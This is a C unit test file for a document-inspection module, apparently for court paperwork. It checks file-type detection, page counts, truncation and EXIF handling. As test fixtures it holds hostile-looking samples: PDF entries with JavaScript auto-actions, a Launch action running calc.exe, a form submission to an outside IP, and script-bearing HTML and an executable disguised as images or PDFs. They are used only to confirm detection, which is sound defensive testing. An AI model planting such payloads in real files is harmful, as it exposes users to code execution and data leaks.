#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "inspect_testing.h"

#include <pthread.h>

static void a_pdf_is_counted_and_nothing_is_wrong_with_it(void **state)
{
    BYTES pdf = {0};

    (void)state;
    make_pdf(&pdf, 3, NULL, "", "");
    LOOKED l = look_at("判决书.pdf", &pdf);
    assert_string_equal(l.paper.media_type, "application/pdf");
    assert_string_equal(l.paper.extension, "pdf");
    assert_int_equal(l.paper.pages, 3);
    assert_int_equal(l.paper.flags, 0);
    assert_null(l.paper.trouble);
    assert_null(l.paper.text);
}

static void the_words_of_a_pdf_are_read(void **state)
{
    BYTES pdf = {0};

    (void)state;
    if (access("/usr/bin/pdftotext", X_OK) != 0) {
        print_message("SKIPPED: pdftotext is not installed\n");
        skip();
    }
    make_pdf(&pdf, 2, "Case 398", "", "");
    LOOKED l = look_at("a.PDF", &pdf);
    assert_int_equal(l.paper.flags, AJ_PAPER_TEXT_LAYER);
    assert_non_null(l.paper.text);
    assert_ptr_equal(strstr(l.paper.text, "Case 398"), l.paper.text);
    assert_non_null(strstr(l.paper.text, "\fCase 398")); /* a page begins with a form feed */
    assert_int_equal(l.paper.text_size, strlen(l.paper.text));
}

/* Each row: an entry of the catalogue, and the flags it must give. */
static void what_a_pdf_carries_is_told(void **state)
{
    static const struct {
        const char *catalog;
        unsigned flags;
    } rows[] = {
        {"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", AJ_PAPER_SCRIPT},
        {"/OpenAction << /JS (1) /S /Java#53cript >>", AJ_PAPER_SCRIPT},
        {"/AA << /WC [ << /S /Launch /F (calc.exe) >> ] >>", AJ_PAPER_SCRIPT},
        {"/Names << /EmbeddedFiles << /Names [] >> >>", AJ_PAPER_ATTACHMENT},
        {"/OpenAction << /S /SubmitForm /F (http://198.51.100.7/) >>", AJ_PAPER_REMOTE},
        {"/OpenAction << /S /GoTo /D [10 0 R /Fit] >>", 0},
        {"/Note (/S /JavaScript \\) /S /Launch)", 0}, /* words about scripts are no script */
        {"/Note </S /Launch>", 0},
    };

    (void)state;
    for (size_t i = 0; i < AJ_COUNTOF(rows); i++) {
        BYTES pdf = {0};

        make_pdf(&pdf, 1, NULL, rows[i].catalog, "");
        LOOKED l = look_at("a.pdf", &pdf);
        print_message("%s\n", rows[i].catalog);
        assert_int_equal(l.paper.flags, rows[i].flags);
        assert_int_equal(l.paper.pages, 1);
    }
}

static void a_cut_pdf_is_unreadable_and_an_appended_one_has_extra_bytes(void **state)
{
    BYTES pdf = {0};

    (void)state;
    make_pdf(&pdf, 2, NULL, "", "");
    LOOKED cut = look("a.pdf", pdf.data, pdf.size * 2 / 3);
    assert_true(cut.paper.flags & AJ_PAPER_UNREADABLE);
    assert_non_null(strstr(cut.paper.trouble, "不完整"));
    aj_buf_addf(&pdf, "\r\n \n");
    LOOKED blank = look_at("a.pdf", &pdf);
    assert_int_equal(blank.paper.flags, 0);
    aj_buf_addf(&pdf, "more");
    LOOKED more = look_at("a.pdf", &pdf);
    assert_int_equal(more.paper.flags, AJ_PAPER_EXTRA_BYTES);
    assert_int_equal(more.paper.pages, 2);
}

static void a_photo_tells_its_orientation_and_position(void **state)
{
    size_t size;

    (void)state;
    for (unsigned orientation = 0; orientation <= 9; orientation++) {
        BYTES jpeg = {0};
        const void *exif = make_exif(orientation, orientation == 6, &size);
        bool good = orientation >= 1 && orientation <= 8;

        make_jpeg(&jpeg, 64, 48, exif, size);
        LOOKED l = look_at("IMG_0001.JPG", &jpeg);
        assert_string_equal(l.paper.media_type, "image/jpeg");
        assert_int_equal(l.paper.pages, 1);
        assert_int_equal(l.paper.exif_orientation, good ? (int)orientation : 0);
        assert_int_equal(l.paper.flags,
                         (orientation == 6 ? AJ_PAPER_GPS : 0) | (good ? 0 : AJ_PAPER_BAD_EXIF));
        assert_null(l.paper.trouble);
    }
}

static void exif_that_points_outside_is_ignored_and_told(void **state)
{
    size_t size;

    (void)state;
    for (size_t cut = 7; cut < 40; cut++) { /* a directory of two entries ends at 40 */
        BYTES jpeg = {0};
        const void *exif = make_exif(3, false, &size);

        make_jpeg(&jpeg, 8, 8, exif, cut);
        LOOKED l = look_at("a.jpg", &jpeg);
        assert_int_equal(l.paper.flags, cut < 40 ? AJ_PAPER_BAD_EXIF : 0);
        assert_int_equal(l.paper.exif_orientation, 0);
    }
}

/* Cut anywhere, a picture is never taken for whole. */
static void assert_every_cut_is_noticed(const char *name, const struct aj_buf *whole)
{
    LOOKED good = look_at(name, whole);

    assert_int_equal(good.paper.flags, 0);
    for (size_t size = 64; size < whole->size; size += whole->size / 37 + 1) {
        LOOKED l = look(name, whole->data, size);

        assert_int_equal(l.paper.flags & AJ_PAPER_UNREADABLE, AJ_PAPER_UNREADABLE);
        assert_non_null(l.paper.trouble);
    }
}

static void a_cut_picture_is_unreadable(void **state)
{
    BYTES jpeg = {0};
    BYTES large = {0};
    BYTES png = {0};
    BYTES tiff = {0};

    (void)state;
    make_jpeg(&jpeg, 300, 200, NULL, 0);
    make_jpeg(&large, 2000, 1000, NULL, 0); /* of a size that is walked, not decoded */
    make_png(&png, 200, 100);
    make_tiff(&tiff, 2, false);
    assert_every_cut_is_noticed("a.jpg", &jpeg);
    assert_every_cut_is_noticed("a.jpg", &large);
    assert_every_cut_is_noticed("a.png", &png);
    assert_every_cut_is_noticed("a.tif", &tiff);
}

static void one_wrong_byte_in_a_png_is_noticed(void **state)
{
    BYTES png = {0};

    (void)state;
    make_png(&png, 1500, 1000); /* larger than what is decoded: the check sums must tell */
    png.data[png.size / 2] ^= 1;
    LOOKED l = look_at("a.png", &png);
    assert_int_equal(l.paper.flags, AJ_PAPER_UNREADABLE);
    assert_non_null(strstr(l.paper.trouble, "损坏"));
}

static void bytes_after_a_picture_are_told(void **state)
{
    BYTES jpeg = {0};
    BYTES png = {0};

    (void)state;
    make_jpeg(&jpeg, 30, 20, NULL, 0);
    make_png(&png, 30, 20);
    aj_buf_add(&jpeg, "\0\0\0\0", 4); /* padding is nothing */
    LOOKED padded = look_at("a.jpg", &jpeg);
    assert_int_equal(padded.paper.flags, 0);
    aj_buf_addf(&jpeg, "MZ program");
    aj_buf_addf(&png, "MZ program");
    LOOKED l = look_at("a.jpg", &jpeg);
    assert_int_equal(l.paper.flags, AJ_PAPER_EXTRA_BYTES);
    LOOKED m = look_at("a.png", &png);
    assert_int_equal(m.paper.flags, AJ_PAPER_EXTRA_BYTES);
}

static void the_pages_of_a_tiff_are_counted_without_its_thumbnails(void **state)
{
    BYTES plain = {0};
    BYTES small = {0};

    (void)state;
    make_tiff(&plain, 5, false);
    make_tiff(&small, 3, true);
    LOOKED l = look_at("a.tiff", &plain);
    assert_string_equal(l.paper.media_type, "image/tiff");
    assert_int_equal(l.paper.pages, 5);
    LOOKED m = look_at("a.tif", &small);
    assert_int_equal(m.paper.pages, 3);
    assert_int_equal(m.paper.flags, 0);
}

static void an_empty_file_says_so(void **state)
{
    (void)state;
    LOOKED l = look("判决书.pdf", "", 0);
    assert_int_equal(l.paper.flags, AJ_PAPER_UNREADABLE);
    assert_non_null(strstr(l.paper.trouble, "空文件"));
    assert_int_equal(l.paper.pages, -1);
}

/* Each row: a name, first bytes, and the flags that name and content must give together. */
static void the_content_decides_and_the_name_is_held_against_it(void **state)
{
    static const struct {
        const char *name, *bytes, *media_type;
        unsigned flags;
    } rows[] = {
        {"判决书.pdf", "MZ\x90", "application/vnd.microsoft.portable-executable",
         AJ_PAPER_FORBIDDEN | AJ_PAPER_WRONG_NAME},
        {"a.jpg", "<!DOCTYPE html><script>alert(1)</script>", "text/html",
         AJ_PAPER_FORBIDDEN | AJ_PAPER_WRONG_NAME},
        {"a.html", " \n<HTML><body>x", "text/html", AJ_PAPER_FORBIDDEN},
        {"印章.png", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
         "image/svg+xml", AJ_PAPER_FORBIDDEN | AJ_PAPER_WRONG_NAME},
        {"run.bat", "del x", "text/plain", AJ_PAPER_FORBIDDEN | AJ_PAPER_TEXT_LAYER},
        {"笔录.txt", "some words", "text/plain", AJ_PAPER_TEXT_LAYER},
        {"笔录.doc", "some words", "text/plain", AJ_PAPER_TEXT_LAYER | AJ_PAPER_WRONG_NAME},
        {"笔录", "some words", "text/plain", AJ_PAPER_TEXT_LAYER},
        {"判决书.最终版", "some words", "text/plain", AJ_PAPER_TEXT_LAYER},
        {"a.pdf", "\1\2\3\4\5", "application/octet-stream",
         AJ_PAPER_UNREADABLE | AJ_PAPER_WRONG_NAME},
        {"a.mp3", "ID3\4\1\1\x7F\x7F\x7F\x7F sound", "audio/mpeg", AJ_PAPER_UNREADABLE},
        {"a.wav", "RIFF\xFF\xFF\1\1WAVEfmt ", "audio/wav", AJ_PAPER_UNREADABLE},
        {"a.pdf", "7z\xBC\xAF\x27\x1C\1\4", "application/x-7z-compressed",
         AJ_PAPER_UNREADABLE | AJ_PAPER_WRONG_NAME},
    };

    (void)state;
    for (size_t i = 0; i < AJ_COUNTOF(rows); i++) {
        LOOKED l = look(rows[i].name, rows[i].bytes, strlen(rows[i].bytes));

        print_message("%s: %s\n", rows[i].name, l.paper.media_type);
        assert_string_equal(l.paper.media_type, rows[i].media_type);
        assert_int_equal(l.paper.flags, rows[i].flags);
        assert_int_equal(l.paper.trouble != NULL, (rows[i].flags & AJ_PAPER_UNREADABLE) != 0);
    }
}

static void a_heic_is_one_page_and_a_cut_one_unreadable(void **state)
{
    static const char heic[] = "\0\0\0\x18"
                               "ftypheic\0\0\0\0mif1heic\0\0\0\x0Cmeta\0\0\0\0"
                               "\0\0\0\x10mdat12345678";

    (void)state;
    LOOKED l = look("IMG_1.HEIC", heic, sizeof(heic) - 1);
    assert_string_equal(l.paper.media_type, "image/heic");
    assert_int_equal(l.paper.pages, 1);
    assert_int_equal(l.paper.flags, 0);
    LOOKED cut = look("IMG_1.HEIC", heic, sizeof(heic) - 4);
    assert_int_equal(cut.paper.flags, AJ_PAPER_UNREADABLE);
}

static void a_link_and_a_missing_file_are_errors_of_ours(void **state)
{
    struct aj_arena arena = {.limit = 1 << 20};
    struct aj_paper paper = {.name = "a"};
    char path[] = "/tmp/aj-inspect-XXXXXX";

    (void)state;
    assert_int_not_equal(aj_inspect("/nowhere/at/all", &arena, &paper, NULL), AJ_OK);
    assert_int_not_equal(aj_inspect("/tmp", &arena, &paper, NULL), AJ_OK);
    assert_non_null(mkdtemp(path));
    assert_int_equal(rmdir(path), 0);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    assert_int_not_equal(aj_inspect(path, &arena, &paper, NULL), AJ_OK);
    assert_int_equal(unlink(path), 0);
}

static void *look_many_times(void *unused)
{
    static const char text[] = "From: a@b\r\nSubject: x\r\nDate: y\r\n\r\nwords";
    size_t wrong = 0;

    (void)unused;
    for (int i = 0; i < 20; i++) {
        LOOKED l = look("a.eml", text, sizeof(text) - 1);

        wrong += l.paper.text == NULL;
    }
    return (void *)wrong;
}

static void threads_look_at_the_same_time(void **state)
{
    pthread_t threads[4];

    (void)state;
    for (size_t i = 0; i < AJ_COUNTOF(threads); i++)
        assert_int_equal(pthread_create(&threads[i], NULL, look_many_times, NULL), 0);
    for (size_t i = 0; i < AJ_COUNTOF(threads); i++) {
        void *wrong = NULL;

        assert_int_equal(pthread_join(threads[i], &wrong), 0);
        assert_null(wrong);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_pdf_is_counted_and_nothing_is_wrong_with_it),
        cmocka_unit_test(the_words_of_a_pdf_are_read),
        cmocka_unit_test(what_a_pdf_carries_is_told),
        cmocka_unit_test(a_cut_pdf_is_unreadable_and_an_appended_one_has_extra_bytes),
        cmocka_unit_test(a_photo_tells_its_orientation_and_position),
        cmocka_unit_test(exif_that_points_outside_is_ignored_and_told),
        cmocka_unit_test(a_cut_picture_is_unreadable),
        cmocka_unit_test(one_wrong_byte_in_a_png_is_noticed),
        cmocka_unit_test(bytes_after_a_picture_are_told),
        cmocka_unit_test(the_pages_of_a_tiff_are_counted_without_its_thumbnails),
        cmocka_unit_test(an_empty_file_says_so),
        cmocka_unit_test(the_content_decides_and_the_name_is_held_against_it),
        cmocka_unit_test(a_heic_is_one_page_and_a_cut_one_unreadable),
        cmocka_unit_test(a_link_and_a_missing_file_are_errors_of_ours),
        cmocka_unit_test(threads_look_at_the_same_time),
    };

    return cmocka_run_group_tests_name("inspect", tests, NULL, NULL);
}
